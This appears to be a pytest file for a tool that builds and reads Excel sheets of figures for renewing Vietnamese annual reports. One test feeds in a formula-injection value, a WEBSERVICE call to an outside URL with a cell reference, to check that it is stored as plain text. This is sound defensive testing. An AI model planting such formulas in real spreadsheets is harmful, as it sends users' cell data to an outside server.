"""The sheet of figures: last year's beside an empty column; what is typed goes exactly there; other sheets are read too."""

import io

import openpyxl
import pytest

from app.drafting.request import BadRequest, of_json
from app.renewal import sheet
from app.renewal.model import RenewalState
from app.renewal.renewing import renew
from ingest.errors import UnreadableFile
from ingest.reading import Reading
from tests.app.renewal.conftest import GIVEN

BODY = "Toàn tỉnh còn 640 hộ nghèo, giảm 31 hộ so với năm 2023.\n\nSản lượng đạt 3.125 tấn, tăng 2,1% so với năm 2023."


@pytest.fixture
def again(framed, assistant):
    """What becomes of the report with the figures of a sheet."""

    def made(body, figures=()):
        request = of_json(GIVEN)
        return renew(framed(body), request, figures, assistant.retriever.reader, assistant.library.catalog)

    return made


def opened(content):
    return openpyxl.load_workbook(io.BytesIO(content)).active


def saved(rows, tmp_path):
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    file = tmp_path / "so-lieu.xlsx"
    book.save(file)
    return file


def test_the_sheet_asks_for_what_is_missing_and_not_for_what_is_computed(again):
    rows = list(opened(sheet.write(again(BODY))).iter_rows(values_only=True))
    assert rows[0][4] == "Số năm 2024"
    assert [row[4] for row in rows[1:]] == ["640", "3.125", "tăng 2,1"]
    assert rows[1][6] == "Toàn tỉnh còn 640 hộ nghèo, giảm 31 hộ so với năm 2023."


def test_what_is_typed_comes_back_to_its_place(again, tmp_path):
    held = opened(sheet.write(again(BODY)))
    for row, value in ((2, "610"), (4, "giảm 0,8%")):
        held.cell(row, 6).value = value
    file = tmp_path / "dien.xlsx"
    held.parent.save(file)
    made = again(BODY, sheet.figures_of(file, Reading()))
    assert [(one.place.old, one.state, one.new) for one in made.places if one.place.code] == [
        ("640", RenewalState.FILLED, "610"),
        ("giảm 31", RenewalState.COMPUTED, "giảm 30"),
        ("3.125", RenewalState.BLANK, ""),
        ("tăng 2,1", RenewalState.FILLED, "giảm 0,8"),
    ]


def test_a_rise_typed_without_its_direction_is_told(again, tmp_path):
    held = opened(sheet.write(again(BODY)))
    held.cell(4, 6).value = "0,8%"
    held.parent.save(tmp_path / "dien.xlsx")
    (reason,) = again(BODY, sheet.figures_of(tmp_path / "dien.xlsx", Reading())).unused
    assert "tăng hay giảm" in reason


def test_any_other_sheet_is_read_by_its_rows_and_columns(again, tmp_path):
    file = saved(
        [("TT", "Chỉ tiêu", "ĐVT", "Thực hiện năm 2025"), (1, "Hộ nghèo", "hộ", 610), (2, "Sản lượng", "tấn", 3200)],
        tmp_path,
    )
    made = again(BODY, sheet.figures_of(file, Reading()))
    filled = {one.place.old: one.new for one in made.places if one.state is RenewalState.FILLED}
    assert filled == {"640": "610", "3.125": "3.200"}
    assert made.unused == ()


def test_a_plan_of_a_sheet_fills_no_result(again, tmp_path):
    file = saved([("Chỉ tiêu", "ĐVT", "Kế hoạch năm 2025"), ("Hộ nghèo", "hộ", 600), ("Sản lượng", "tấn", 3300)], tmp_path)
    made = again(BODY, sheet.figures_of(file, Reading()))
    assert not [one for one in made.places if one.state is RenewalState.FILLED]


def test_the_three_columns_of_the_other_way_of_drafting(again, tmp_path):
    file = saved(
        [("Mục hoặc lĩnh vực", "Tên số liệu", "Giá trị (in đúng như ghi)"), ("giảm nghèo", "hộ nghèo", "610 hộ")], tmp_path
    )
    made = again(BODY, sheet.figures_of(file, Reading()))
    assert [one.new for one in made.places if one.state is RenewalState.FILLED] == ["610"]


def test_what_is_no_sheet_is_told(tmp_path):
    (tmp_path / "a.xlsx").write_bytes(b"PK nothing")
    with pytest.raises((BadRequest, UnreadableFile)):
        sheet.figures_of(tmp_path / "a.xlsx", Reading())
    with pytest.raises(BadRequest, match="không có số liệu"):
        sheet.figures_of(saved([("Ghi chú",), ("Không",)], tmp_path), Reading())


def test_words_that_excel_would_compute_are_kept_as_words(again):
    made = again('Phong trào "+84" có 12 hộ tham gia.')
    assert all(
        not str(cell.value or "").startswith(("=", "+", "@"))
        for row in opened(sheet.write(made)).iter_rows()
        for cell in row
    )


def test_a_report_without_figures_has_a_sheet_of_its_titles_alone(again):
    assert len(list(opened(sheet.write(again("Không có số liệu."))).iter_rows())) == 1


def test_the_same_figure_told_twice_has_one_row(framed, assistant, tmp_path):
    body = "Toàn tỉnh còn 640 hộ nghèo.\n\nToàn tỉnh còn 640 hộ nghèo."
    made = renew(framed(body), of_json(GIVEN), (), assistant.retriever.reader, assistant.library.catalog)
    (row,) = sheet.rows(made)
    assert len(row.places) == 2


def test_a_formula_of_last_year_s_report_is_no_formula_of_the_sheet(again):
    made = again('=1+WEBSERVICE("http://may-la.vn/"&A1) có 640 hộ nghèo.\n\n+84 xã có 12 hộ tham gia.')
    cells = [cell for row in opened(sheet.write(made)).iter_rows() for cell in row]
    assert any("WEBSERVICE" in str(cell.value) for cell in cells) and all(cell.data_type != "f" for cell in cells)


def test_what_is_longer_than_a_figure_of_a_report_is_not_looked_for(again, tmp_path):
    rows = [(sheet.CODE, "", "", "", "", "", ""), ("", "I", "hộ nghèo " * 3000, "hộ", "", "12 hộ", "")]
    rows.append(("", "I", "hộ nghèo", "hộ", "", "12 hộ " * 3000, ""))
    made = again(BODY, sheet.figures_of(saved(rows, tmp_path), Reading()))
    assert len(made.unused) == 2 and all("dài quá 300 ký tự" in one and len(one) < 1000 for one in made.unused)
    assert all(one.state is not RenewalState.FILLED for one in made.places)


def test_more_figures_than_a_report_has_are_told_and_none_is_lost(again, tmp_path, monkeypatch):
    rows = [(sheet.CODE, "", "", "", "", "", ""), *[("", "I", f"việc {n}", "", "", f"{n} việc", "") for n in range(1, 5)]]
    monkeypatch.setattr("app.renewal.filling.MOST_FIGURES", 2)
    made = again(BODY, sheet.figures_of(saved(rows, tmp_path), Reading()))
    assert len(made.unused) == 4 and ["không có mã" in one for one in made.unused] == [False, False, True, True]
    monkeypatch.setattr(sheet, "MOST_CELLS", 3)
    with pytest.raises(BadRequest, match="chia thành nhiều bảng"):
        sheet.figures_of(saved(rows, tmp_path), Reading())
